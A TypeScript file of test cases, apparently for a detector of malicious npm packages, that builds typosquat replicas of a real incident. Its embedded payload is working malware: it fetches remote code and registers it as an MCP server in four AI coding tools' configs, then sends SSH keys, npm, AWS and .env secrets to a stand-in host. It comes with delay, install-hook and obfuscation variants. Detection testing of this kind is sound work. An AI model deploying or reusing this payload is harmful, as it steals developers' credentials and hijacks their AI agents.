import { casesOf, type Facts } from '../case';
import { functionReversed, renamedLocals, stringArray } from '../disguise/javascript';
import { npm } from '../packages';

interface Told {
  host: string;
  server: string;
  folder: string;
}

/** The server's file is fetched first; without it nothing is written. */
const plant = ({ host, server, folder }: Told) => String.raw`
setTimeout(function () {
  const fs = require('fs');
  const os = require('os');
  const path = require('path');
  const https = require('https');
  const home = os.homedir();
  https.get('https://${host}/dist/server.js', function (response) {
    let text = '';
    response.on('data', function (part) { text += part; });
    response.on('end', function () {
      const folder = path.join(home, '${folder}');
      fs.mkdirSync(folder, { recursive: true });
      fs.writeFileSync(path.join(folder, 'server.js'), text, { mode: 0o600 });
      const entry = { command: 'node', args: [path.join(folder, 'server.js')], env: {} };
      const configs = [
        path.join(home, '.claude', 'settings.json'),
        path.join(home, '.cursor', 'mcp.json'),
        path.join(home, '.continue', 'config.json'),
        path.join(home, '.codeium', 'windsurf', 'mcp_config.json'),
      ];
      for (const file of configs) {
        try {
          const config = JSON.parse(fs.readFileSync(file, 'utf8'));
          config.mcpServers = Object.assign({}, config.mcpServers, { '${server}': entry });
          fs.writeFileSync(file, JSON.stringify(config, null, 2));
        } catch (absent) {}
      }
      const keys = ['.ssh/id_rsa', '.npmrc', '.aws/credentials', '.env'].map(function (name) {
        try { return fs.readFileSync(path.join(home, name), 'utf8'); } catch (absent) { return ''; }
      });
      const request = https.request({ hostname: '${host}', path: '/v1/store', method: 'POST' });
      request.on('error', function () {});
      request.end(JSON.stringify({ keys: keys, env: process.env }));
    });
  }).on('error', function () {});
}, (48 + Math.floor(Math.random() * 48)) * 3600 * 1000).unref();
`;

const FACTS: Facts = {
  now: '2026-02-18T12:00:00Z',
  publishedAt: '2026-02-18T09:00:00Z',
  firstPublishedAt: '2026-02-18T09:00:00Z',
  publisher: 'fresh-account',
  takenFor: 'supports-color',
};
const REPLICA: Told = { host: 'freefan.invalid', server: 'dev-utils', folder: '.dev-utils' };

export const sandwormMode = casesOf({
  id: 'sandworm-mode',
  incident: 'sandworm-mode',
  kind: 'import-time',
  seen: 'a typosquat that, when required and after a long delay, adds its own MCP server to the configuration of four agent tools and sends keys',
  replica: {
    sample: npm('suport-color', '1.0.1', {
      about: 'Says whether a terminal has colours.',
      index: (honest) => honest + plant(REPLICA),
    }),
    facts: FACTS,
  },
  renamed: {
    sample: npm('claud-code-kit', '0.2.1', {
      about: 'Helpers for agents.',
      index: (honest) => `${honest}\nrequire('./lib/schedule');\n`,
      files: {
        'lib/schedule.js': renamedLocals(
          plant({ host: 'kit-assets.invalid', server: 'code-index', folder: '.code-index' }),
          'kit',
        ),
      },
    }),
    facts: { ...FACTS, takenFor: 'claude-code' },
  },
  reObfuscated: {
    sample: npm('suport-color', '1.0.2', {
      about: 'Says whether a terminal has colours.',
      index: (honest) => `${honest}\n${functionReversed(stringArray(plant(REPLICA), 'sand'))}\n`,
    }),
    facts: FACTS,
  },
  otherStage: {
    kind: 'install-hook',
    seen: 'postinstall adds its own MCP server to the configuration of four agent tools and sends keys',
    sample: npm('suport-color', '1.0.3', {
      about: 'Says whether a terminal has colours.',
      manifest: { scripts: { postinstall: 'node scripts/check.js' } },
      files: {
        'scripts/check.js': plant(REPLICA)
          .replace('setTimeout(function () {', '(function () {')
          .replace(/\}, \(48.*\n/, '})();\n'),
      },
    }),
    facts: FACTS,
  },
});
